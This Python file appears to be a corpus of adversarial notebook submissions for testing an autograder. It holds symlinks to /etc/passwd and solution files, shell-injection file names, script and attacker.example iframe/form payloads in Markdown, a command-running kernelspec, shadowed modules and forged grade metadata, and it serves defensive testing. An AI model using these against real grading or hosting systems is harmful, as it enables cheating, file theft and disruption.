"""Attacks that are no cells: damaged notebooks, forged metadata, other files, and moments that are not true."""

import json
import os
from collections.abc import Callable
from pathlib import Path

import nbformat
from corpus import Attack, Writer
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from graders.notebooks import is_test

ATTACKS: list[Attack] = []
FILE = "vault.ipynb"


def attack(family: str, tries: str, *, worked: str = "") -> Callable[[Writer], Writer]:
    """Note a function as an attack: it gets an empty folder and the released notebook, and writes what is handed in."""

    def note(write: Writer) -> Writer:
        ATTACKS.append(Attack(f"{family}/{write.__name__}", tries, write=write, worked=worked))
        return write

    return note


def _write(folder: Path, nb: NotebookNode) -> None:
    (folder / FILE).write_text(json.dumps(nb), encoding="utf-8")


def _tests(nb: NotebookNode) -> list[NotebookNode]:
    return [cell for cell in nb.cells if is_test(cell)]


# lateness


@attack("lateness", "a timestamp.txt of long before")
def forged_timestamp(folder, nb):
    _write(folder, nb)
    (folder / "timestamp.txt").write_text("2000-01-01 00:00:00 UTC\n")


@attack("lateness", "a timestamp.txt at the end of time")
def end_of_time(folder, nb):
    _write(folder, nb)
    (folder / "timestamp.txt").write_text("9999-12-31 23:59:59 UTC\n")


@attack("lateness", "a timestamp.txt that is no moment, so that there is no grade")
def no_moment(folder, nb):
    _write(folder, nb)
    (folder / "timestamp.txt").write_text("2026-12-06 20:00 MSK, honestly\x1b[2J\n")


@attack("lateness", "a timestamp.txt of five million digits")
def long_moment(folder, nb):
    _write(folder, nb)
    (folder / "timestamp.txt").write_text("9" * 5_000_000)


@attack("lateness", "a timestamp.txt that is a link to the machine's passwords")
def linked_moment(folder, nb):
    _write(folder, nb)
    (folder / "timestamp.txt").symlink_to("/etc/passwd")


@attack("lateness", "a timestamp.txt that is a folder")
def folder_of_moments(folder, nb):
    _write(folder, nb)
    (folder / "timestamp.txt").mkdir()
    (folder / "timestamp.txt" / "timestamp.txt").write_text("2000-01-01 00:00:00 UTC\n")


# links and names


@attack("intake", "a link to the gradebook beside the notebook, shown by it")
def link_to_gradebook(folder, nb):
    (folder / "notes.txt").symlink_to("../../../gradebook.db")
    nb.cells.append(new_code_cell("print(open('notes.txt', 'rb').read())"))
    _write(folder, nb)


@attack("intake", "a link to the assignment's source beside the notebook, shown by it")
def link_to_source(folder, nb):
    (folder / "notes.txt").symlink_to("../../../source/vault/vault.ipynb")
    nb.cells.append(new_code_cell("print(open('notes.txt').read())"))
    _write(folder, nb)


@attack("intake", "a notebook that is a link to another student's right one")
def link_to_another(folder, nb):
    (folder / FILE).symlink_to("../../zzz-right/vault/vault.ipynb")


@attack("intake", "a notebook that is a link to the source with its solutions")
def link_to_solutions(folder, nb):
    (folder / FILE).symlink_to("../../../source/vault/vault.ipynb")


@attack("intake", "a folder that is a link to the course's sources")
def link_to_course(folder, nb):
    (folder / "all").symlink_to("../../../source")
    nb.cells.append(
        new_code_cell(
            "import os\nprint([(w[0], open(os.path.join(w[0], f), 'rb').read()[:100000]) for w in os.walk('all/') for f in w[2]])"
        )
    )
    _write(folder, nb)


@attack("intake", "names of files that are commands, options, colours, lines and other students' folders")
def odd_names(folder, nb):
    _write(folder, nb)
    names = [
        "-rf",
        "$(touch attack-left)",
        ";touch attack-left",
        "a\nb",
        "\x1b[2J\x1b]0;x\x07",
        "\u202etxt.exe",
        "'\"",
        "x" * 250,
    ]
    names += ["..data", "...", "%s%n", "{0}", "nul", "C:\\x", " ", "\udcff", "<script>document.title='ALARM'<"]
    for name in names:
        (folder / name).write_text(name, errors="replace")


@attack("intake", "a thousand files")
def many_files(folder, nb):
    _write(folder, nb)
    for number in range(1_000):
        (folder / f"{number}.txt").touch()


@attack("intake", "folders in folders, three hundred deep")
def deep_folders(folder, nb):
    _write(folder, nb)
    deep = folder.joinpath(*"x" * 300)
    deep.mkdir(parents=True)
    (deep / FILE).write_text("{}")


@attack("intake", "a pipe that nobody writes to, beside the notebook")
def pipe(folder, nb):
    _write(folder, nb)
    os.mkfifo(folder / "data.csv")


@attack("intake", "a notebook that is a pipe")
def notebook_is_a_pipe(folder, nb):
    os.mkfifo(folder / FILE)


@attack("intake", "three hundred megabytes of nothing beside the notebook")
def large_file(folder, nb):
    _write(folder, nb)
    with (folder / "data.bin").open("wb") as file:
        file.truncate(300 << 20)


@attack("intake", "the right notebook's name in other letters, and in a folder further down")
def other_names(folder, nb):
    forged = nbformat.from_dict(json.loads(json.dumps(nb)))
    for cell in _tests(forged):
        cell.source = "99"
    (folder / "deeper").mkdir()
    (folder / "deeper" / FILE).write_text(json.dumps(forged))
    (folder / "VAULT.IPYNB").write_text(json.dumps(forged))
    (folder / ".ipynb_checkpoints").mkdir()
    (folder / ".ipynb_checkpoints" / FILE).write_text(json.dumps(forged))


# modules and settings beside the notebook


@attack("intake", "a package graders of one's own beside the notebook")
def module_graders(folder, nb):
    package = folder / "graders"
    package.mkdir()
    (package / "__init__.py").write_text("")
    (package / "checks.py").write_text("def __getattr__(name):\n    return lambda *args, **kwargs: None\n")
    nb.cells.insert(
        0,
        new_code_cell(
            "import sys\nfor name in [n for n in sys.modules if n.startswith('graders')]:\n    del sys.modules[name]\nsys.path.insert(0, '.')"
        ),
    )
    names = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in nb.cells}
    names["unmask"].source = 'unmask = lambda text: {"nopq": "abcd", "": "", "7": "7"}.get(text, "")'
    _write(folder, nb)


@attack("intake", "modules of the standard library, NumPy and Keras of one's own beside the notebook")
def module_numpy(folder, nb):
    _write(folder, nb)
    text = (
        "import builtins\nbuiltins.FORGED = True\nallclose = lambda *args, **kwargs: True\nshape = lambda value: (2,)\n"
    )
    for name in (
        "numpy",
        "keras",
        "json",
        "math",
        "msgpack",
        "socket",
        "sitecustomize",
        "usercustomize",
        "IPython",
        "nbclient",
        "_socket",
    ):
        (folder / f"{name}.py").write_text(text)


@attack("intake", "settings of nbgrader's, Jupyter's and pytest's beside the notebook")
def settings(folder, nb):
    _write(folder, nb)
    text = "c = get_config()\nc.Execute.timeout = 1\nc.Execute.sandbox = False\nopen('/tmp/attack-left-config', 'w').close()\n"
    for name in ("nbgrader_config.py", "jupyter_nbconvert_config.py", "ipython_config.py", "conftest.py", "setup.py"):
        (folder / name).write_text(text)
    (folder / "vault.md").write_text("# no source\n")
    (folder / "index.html.j2").write_text("{{ 7 * 7 }}")


# notebooks that are none


@attack("intake", "JSON nested a hundred thousand deep")
def deep_json(folder, nb):
    (folder / FILE).write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + ', "nbformat": 4}')


@attack("intake", "numbers that are none, keys that stand there twice, halves of characters")
def lying_json(folder, nb):
    text = json.dumps(nb)
    (folder / FILE).write_text('{"nbformat": 4, "cells": [], "x": [NaN, Infinity, 1e999, "\\ud800"],' + text[1:])


@attack("intake", "a notebook of a format that is yet to come, with metadata of the wrong kinds")
def wrong_kinds(folder, nb):
    nb.metadata = {"kernelspec": [], "language_info": 7}
    for cell in nb.cells:
        cell.metadata["nbgrader"] = {**cell.metadata.get("nbgrader", {}), "points": "many", "schema_version": 99}
        cell.metadata["collapsed"] = {"x": [None]}
        cell["execution_count"] = "seven"
        cell["id"] = {"x": 1}
    nb["nbformat_minor"] = 999
    _write(folder, nb)


@attack("intake", "bytes that mean nothing in place of a notebook")
def bytes_only(folder, nb):
    (folder / FILE).write_bytes(bytes(range(256)) * 1000)


@attack("intake", "an empty folder")
def nothing(folder, nb):
    (folder / "README.txt").write_text("Сдам позже")


@attack("intake", "three hundred thousand empty cells")
def empty_cells(folder, nb):
    text = json.dumps(nb)
    (folder / FILE).write_text(text.replace('"cells": [', '"cells": [' + "{}, " * 300_000, 1))


@attack("intake", "a hundred thousand cells, each with something in it")
def crowd_of_cells(folder, nb):
    text = json.dumps(nb)
    cells = "".join(json.dumps(new_code_cell(f"# {number}", id=f"c{number}")) + ", " for number in range(100_000))
    (folder / FILE).write_text(text.replace('"cells": [', '"cells": [' + cells, 1))


@attack("intake", "a hundred thousand cells in an old format")
def old_crowd_of_cells(folder, nb):
    cells = [{"cell_type": "code", "input": "1", "outputs": [], "language": "python", "metadata": {}}] * 100_000
    old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells, "metadata": {}}]}
    (folder / FILE).write_text(json.dumps(old))


@attack("intake", "headings of an old format, two hundred million levels deep")
def old_deep_headings(folder, nb):
    cells = [{"cell_type": "heading", "level": 200_000_000, "source": "x", "metadata": {}}] * 20
    old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells, "metadata": {}}]}
    (folder / FILE).write_text(json.dumps(old))


@attack("intake", "cells of no kind in the oldest format, each of which was taken for the long one before them")
def old_repeated_cells(folder, nb):
    cells = [{"cell_type": "text", "text": "x" * 500_000}, *[{"cell_type": "none"}] * 1_900]
    (folder / FILE).write_text(json.dumps({"nbformat": 1, "cells": cells}))


@attack("intake", "tags in an old format, which were compared each with every other one")
def old_tags(folder, nb):
    tags = [item for number in range(20_000) for item in ({"x": number}, str(number))]
    cells = [{"cell_type": "markdown", "source": "x", "metadata": {"tags": tags}}]
    old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells, "metadata": {}}]}
    (folder / FILE).write_text(json.dumps(old))


@attack("intake", "a cell of twenty megabytes")
def huge_cell(folder, nb):
    nb.cells.insert(0, new_code_cell("x = '" + "y" * 20_000_000 + "'"))
    _write(folder, nb)


@attack("intake", "a cell of five million empty lines, which takes a hundred times its bytes wherever it is written")
def empty_lines(folder, nb):
    nb.cells.insert(0, new_code_cell("\n" * 5_000_000 + "1"))
    _write(folder, nb)


@attack("intake", "eight million empty lists beside the cells, each a hundred times as large when it is read")
def empty_lists(folder, nb):
    (folder / FILE).write_text(json.dumps(nb)[:-1] + ', "more": [' + "[], " * 8_000_000 + "[]]}")


@attack("intake", "sixty large notebooks, none of which has the right name")
def many_candidates(folder, nb):
    for number in range(60):
        (folder / f"a{number}.ipynb").write_text('{"cells": [' + "{}, " * 500_000 + "{}]}")


@attack("intake", "a folder where the page with the feedback is to stand")
def page_in_the_way(folder, nb):
    _write(folder, nb)
    (folder / "vault.html").mkdir()
    (folder / "vault.html" / "index.html").write_text("<script>document.title = 1</script>")


@attack("intake", "Markdown that takes a minute to be read: sixty kilobytes of the beginning of a picture")
def huge_markdown(folder, nb):
    nb.cells.insert(0, new_markdown_cell("![](" * 15_000))
    nb.cells.insert(0, new_markdown_cell("*_" * 30_000))
    nb.cells.insert(0, new_markdown_cell("> " * 5_000 + "x"))
    nb.cells.insert(0, new_markdown_cell("|a" * 20_000 + "\n" + "|-" * 20_000))
    _write(folder, nb)


@attack("intake", "scripts, frames and forms in Markdown, and colours for a terminal")
def scripts(folder, nb):
    nb.cells.insert(
        0,
        new_markdown_cell(
            "<script>document.title='ALARM'</script><iframe src='http://attacker.example'></iframe>\n\n[x](javascript:alert(1))\x1b[2J"
        ),
    )
    nb.cells.insert(
        0,
        new_markdown_cell(
            "<img src=x onerror=\"document.title='ALARM'\"><form action='http://attacker.example'><input>"
        ),
    )
    _write(folder, nb)


@attack("intake", "attachments that are no pictures")
def attachments(folder, nb):
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            cell["attachments"] = {"x.png": {"image/png": 7, "text/html": ["<script>"]}, "y": None, "\x1b[2J": {}}
    _write(folder, nb)


@attack("intake", "a drawing of forty thousand groups, and as many elements that it may not have")
def drawing_of_groups(folder, nb):
    groups = "'<svg xmlns=\"http://www.w3.org/2000/svg\">' + '<g/>' * 40_000 + '<b/>' * 40_000 + '</svg>'"
    nb.cells.insert(0, new_code_cell(f"from IPython.display import SVG\nSVG({groups})"))
    _write(folder, nb)


@attack("intake", "a thousand copies of a cell, whose lines end as no editor ends them")
def odd_line_ends(folder, nb):
    nb.cells += [new_markdown_cell("x\x0b\x85" * 1_000 + str(number)) for number in range(1_000)]
    for cell in nb.cells[-1_000:]:
        cell.metadata["nbgrader"] = {"grade_id": "unmask"}
    _write(folder, nb)


@attack("intake", "three thousand pictures of one name each, that a text calls a hundred thousand times")
def renamed_pictures(folder, nb):
    for data in ("b25l", "dHdv"):
        cell = new_markdown_cell("attachment:x " * 100_000)
        cell["attachments"] = {f"{number}.png": {"image/png": data} for number in range(3_000)}
        nb.cells.append(cell)
    _write(folder, nb)


# forged metadata


@attack("forged", "tests replaced by a number, worth ninety-nine points each")
def points(folder, nb):
    for cell in _tests(nb):
        cell.source, cell.metadata.nbgrader.points = "99", 99
    _write(folder, nb)


@attack("forged", "tests that are no longer locked, no longer graded, or solutions")
def roles(folder, nb):
    for number, cell in enumerate(_tests(nb)):
        cell.metadata.nbgrader.update(
            [{"locked": False}, {"grade": False}, {"solution": True}, {"task": True, "grade": False}][number % 4]
        )
        cell.source = "99"
    _write(folder, nb)


@attack("forged", "tests' names given to cells of one's own")
def names(folder, nb):
    for cell in _tests(nb):
        own = new_code_cell("99")
        own.metadata["nbgrader"] = dict(cell.metadata.nbgrader)
        cell.metadata.nbgrader.grade_id += "_old"
        nb.cells.append(own)
    _write(folder, nb)


@attack("forged", "tests twice: once as released, once as wanted")
def twice(folder, nb):
    for cell in _tests(nb):
        own = nbformat.from_dict(json.loads(json.dumps(cell)))
        own.source, own["id"] = "99", f"{cell['id']}-own"
        nb.cells.insert(0, own)
        nb.cells.append(own)
    _write(folder, nb)


@attack("forged", "a test of one's own worth a hundred points")
def own_test(folder, nb):
    own = new_code_cell("100")
    own.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
        "cell_type": "code",
        "checksum": "",
    }
    nb.cells.append(own)
    _write(folder, nb)


@attack("forged", "tests that are Markdown or text")
def kinds(folder, nb):
    for number, cell in enumerate(_tests(nb)):
        cell.cell_type = ("markdown", "raw")[number % 2]
        del cell["outputs"], cell["execution_count"]
    _write(folder, nb)


@attack("forged", "tests taken out")
def taken_out(folder, nb):
    tests = _tests(nb)
    nb.cells = [cell for cell in nb.cells if not any(cell is test for test in tests)]
    _write(folder, nb)


@attack("forged", "tests put before the answers, and cells of the release taken out")
def out_of_order(folder, nb):
    nb.cells = [*_tests(nb), *[cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("solution")]]
    _write(folder, nb)


@attack("forged", "tags that have a cell skipped, its error expected or its output removed")
def tags(folder, nb):
    for cell in nb.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-output", "hide-input", "parameters"]
        cell.metadata["deletable"], cell.metadata["trusted"] = True, True
    _write(folder, nb)


@attack("forged", "a kernel of another language, and a kernel that is a program of one's own")
def kernel(folder, nb):
    nb.metadata["kernelspec"] = {
        "name": "bash",
        "display_name": "../../bin/sh",
        "language": "bash",
        "argv": ["touch", "/tmp/attack-left-kernel"],
    }
    _write(folder, nb)


@attack("forged", "outputs and notes that say that all has been run and graded already")
def outputs(folder, nb):
    nb.metadata["course"] = {"problem": "all points", "own_seconds": 0, "key": "x"}
    for cell in _tests(nb):
        cell.execution_count = 1
        cell.outputs = [
            {"output_type": "execute_result", "data": {"text/plain": "99"}, "metadata": {}, "execution_count": 1}
        ]
        cell.metadata["nbgrader"]["checksum"] = "0" * 32
        cell.metadata["execution"] = {"iopub.status.busy": "x", "iopub.status.idle": "2000-01-01T00:00:00"}
    _write(folder, nb)
